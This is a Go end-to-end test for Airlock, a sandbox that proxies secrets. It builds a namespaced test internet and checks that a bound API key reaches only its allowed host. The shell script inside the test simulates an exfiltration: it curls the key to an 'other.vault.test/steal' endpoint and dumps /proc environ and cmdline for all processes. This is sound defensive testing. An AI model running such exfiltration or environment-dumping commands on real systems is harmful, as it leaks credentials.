package e2e

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"
	"golang.org/x/sys/unix"
)

const vaultCanary = "canary-e2e-4b1d9f0a7c3e"

// vaultNet is a small test internet: a network namespace joined to the
// host's by a veth pair in 198.18.0.0/15, holding an HTTPS server that
// records what it receives and a DNS server for *.vault.test.
type vaultNet struct {
	link    string
	caPEM   []byte
	mu      sync.Mutex
	got     []string
	closers []func()
}

func (n *vaultNet) received() string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return strings.Join(n.got, "\n")
}

func newVaultNet(t *testing.T) *vaultNet {
	t.Helper()
	n := &vaultNet{link: fmt.Sprintf("avt%d", os.Getpid()%100000)}
	t.Cleanup(n.close)
	cert, caPEM := vaultTestCerts(t)
	n.caPEM = caPEM
	errc := make(chan error, 1)
	go func() {
		// This thread enters the new namespace and never leaves: not
		// unlocking it makes the runtime retire it with the goroutine.
		runtime.LockOSThread()
		errc <- n.build(cert)
	}()
	if err := <-errc; err != nil {
		t.Fatalf("building the test internet: %v", err)
	}
	return n
}

func (n *vaultNet) build(cert tls.Certificate) error {
	host, err := netns.Get()
	if err != nil {
		return err
	}
	defer host.Close()
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		return err
	}
	inner, err := netns.Get()
	if err != nil {
		return err
	}
	defer inner.Close()
	hh, err := netlink.NewHandleAt(host)
	if err != nil {
		return err
	}
	defer hh.Close()
	veth := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: n.link}, PeerName: n.link + "p"}
	if err := hh.LinkAdd(veth); err != nil {
		return err
	}
	n.closers = append(n.closers, func() {
		if l, err := netlink.LinkByName(n.link); err == nil {
			_ = netlink.LinkDel(l)
		}
	})
	peer, err := hh.LinkByName(n.link + "p")
	if err != nil {
		return err
	}
	if err := hh.LinkSetNsFd(peer, int(inner)); err != nil {
		return err
	}
	hl, _ := hh.LinkByName(n.link)
	a1, _ := netlink.ParseAddr("198.18.0.1/15")
	a2, _ := netlink.ParseAddr("198.18.0.2/15")
	if err := hh.AddrAdd(hl, a1); err != nil {
		return err
	}
	if err := hh.LinkSetUp(hl); err != nil {
		return err
	}
	pl, err := netlink.LinkByName(n.link + "p")
	if err != nil {
		return err
	}
	lo, _ := netlink.LinkByName("lo")
	_ = netlink.LinkSetUp(lo)
	if err := netlink.AddrAdd(pl, a2); err != nil {
		return err
	}
	if err := netlink.LinkSetUp(pl); err != nil {
		return err
	}
	return n.serve(cert)
}

func (n *vaultNet) serve(cert tls.Certificate) error {
	l, err := net.Listen("tcp4", "198.18.0.2:443")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		n.mu.Lock()
		n.got = append(n.got, r.Host+" "+r.URL.RequestURI()+" auth="+r.Header.Get("Authorization")+" leak="+r.Header.Get("X-Leak")+" body="+string(body))
		n.mu.Unlock()
		io.WriteString(w, "ok\n")
	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
	go srv.Serve(tls.NewListener(l, srv.TLSConfig))
	n.closers = append(n.closers, func() { srv.Close() })
	pc, err := net.ListenPacket("udp4", "198.18.0.2:53")
	if err != nil {
		return err
	}
	ds := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, r *dns.Msg) {
		m := new(dns.Msg).SetReply(r)
		for _, q := range r.Question {
			if q.Qtype == dns.TypeA && strings.HasSuffix(q.Name, "vault.test.") {
				rr, _ := dns.NewRR(q.Name + " 60 IN A 198.18.0.2")
				m.Answer = append(m.Answer, rr)
			}
		}
		_ = w.WriteMsg(m)
	})}
	go ds.ActivateAndServe()
	n.closers = append(n.closers, func() { _ = ds.Shutdown() })
	return nil
}

func (n *vaultNet) close() {
	for i := len(n.closers) - 1; i >= 0; i-- {
		n.closers[i]()
	}
}

// vaultTestCerts makes a test root and a server certificate for the
// test internet's names.
func vaultTestCerts(t *testing.T) (tls.Certificate, []byte) {
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "vault e2e root"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	lt := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "api.vault.test"},
		DNSNames:  []string{"api.vault.test", "other.vault.test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, lt, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})
}

// runEnv runs airlock with extra environment, stdin from in.
func (e *env) runEnv(extra []string, in string, args ...string) result {
	e.t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Dir = e.ws
	cmd.Env = append(append(os.Environ(), "AIRLOCK_HOME="+e.home), extra...)
	cmd.Stdin = strings.NewReader(in)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		e.t.Fatalf("running airlock %v: %v", args, err)
	}
	return result{code, out.String(), errb.String()}
}

// The pod uses a bound secret without ever holding it: the server gets
// the value, another host gets nothing and the attempt is audited as a
// leak, and the value is nowhere the agent or a log could show it.
func TestVaultProxySecretNeverSeen(t *testing.T) {
	e := newEnv(t)
	inet := newVaultNet(t)
	sys, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
	if err != nil {
		t.Fatal(err)
	}
	bundle := filepath.Join(t.TempDir(), "trust.pem")
	os.WriteFile(bundle, append(sys, inet.caPEM...), 0o644)
	trust := []string{"SSL_CERT_FILE=" + bundle}

	var outputs []string
	keep := func(r result) result { outputs = append(outputs, r.stdout, r.stderr); return r }
	keep(e.must("init", "vp"))
	cfg := filepath.Join(e.home, "pods", "vp", "pod.yaml")
	y, _ := os.ReadFile(cfg)
	ys := strings.Replace(string(y), "  allow: []\n", "  allow: [api.vault.test, other.vault.test]\n", 1)
	ys = strings.Replace(ys, "  allow_private: []\n", "  allow_private: [198.18.0.0/15]\n", 1)
	ys = strings.Replace(ys, "    upstream: []\n", "    upstream: [\"198.18.0.2:53\"]\n", 1)
	os.WriteFile(cfg, []byte(ys), 0o644)

	if r := keep(e.run(vaultCanary+"\n", "vault", "vp", "set", "API_KEY")); r.code != 0 {
		t.Fatalf("vault set: %+v", r)
	}
	if r := keep(e.run("", "vault", "vp", "get", "API_KEY")); r.code == 0 {
		t.Fatalf("get without --reveal succeeded: %+v", r)
	}
	if r := keep(e.run("", "vault", "vp", "get", "API_KEY", "--reveal")); r.code == 0 {
		t.Fatalf("get --reveal to a pipe succeeded: %+v", r)
	}
	keep(e.must("vault", "vp", "bind", "API_KEY", "--host", "api.vault.test"))
	ls := keep(e.must("vault", "vp", "ls", "--json"))
	if !strings.Contains(ls.stdout, `"api.vault.test"`) || !strings.Contains(ls.stdout, `"proxy"`) {
		t.Fatalf("ls --json: %s", ls.stdout)
	}
	script := `c1=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $API_KEY" "https://api.vault.test/use?k=$API_KEY")
echo "bound=$c1"
c2=$(curl -sS -o /dev/null -w '%{http_code}' -H "X-Leak: $API_KEY" https://other.vault.test/steal)
echo "other=$c2"
case "$API_KEY" in airlock-placeholder-API_KEY-*) echo "placeholder=ok";; esac
echo "$API_KEY" > held.txt
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done`
	r := keep(e.runEnv(trust, "", "run", "vp", "--", "sh", "-c", script))
	if r.code != 0 || !strings.Contains(r.stdout, "bound=200") || !strings.Contains(r.stdout, "other=403") || !strings.Contains(r.stdout, "placeholder=ok") {
		t.Fatalf("run: exit %d\nstdout: %s\nstderr: %s\nserver: %s", r.code, r.stdout, r.stderr, inet.received())
	}
	if !strings.Contains(r.stdout, "API_KEY=airlock-placeholder-API_KEY-") || !strings.Contains(r.stdout, "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt") {
		t.Fatalf("the pod's /proc/*/environ dump lacks the placeholder or the CA variables:\n%s", r.stdout)
	}
	got := inet.received()
	if !strings.Contains(got, "api.vault.test /use?k="+vaultCanary+" auth=Bearer "+vaultCanary) {
		t.Fatalf("bound server did not receive the value: %q", got)
	}
	if strings.Contains(got, "other.vault.test") {
		t.Fatalf("the placeholder reached the unbound host: %q", got)
	}
	keep(e.must("diff", "vp", "-p"))
	audit, _ := os.ReadFile(filepath.Join(e.home, "pods", "vp", "audit.jsonl"))
	if !bytes.Contains(audit, []byte(`"action":"net.leak"`)) || !bytes.Contains(audit, []byte(`"secret":"API_KEY"`)) || !bytes.Contains(audit, []byte(`"action":"net.secret"`)) {
		t.Errorf("audit lacks the secret use or the leak:\n%s", audit)
	}
	for i, o := range outputs {
		if strings.Contains(o, vaultCanary) {
			t.Errorf("canary in CLI output %d: %q", i, o)
		}
	}
	// Every file Airlock or the pod wrote: state, layer, vault, audit.
	for _, root := range []string{e.home, e.ws} {
		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
			if err == nil && fi.Mode().IsRegular() {
				if b, _ := os.ReadFile(p); bytes.Contains(b, []byte(vaultCanary)) {
					t.Errorf("canary on disk in %s", p)
				}
			}
			return nil
		})
	}
}
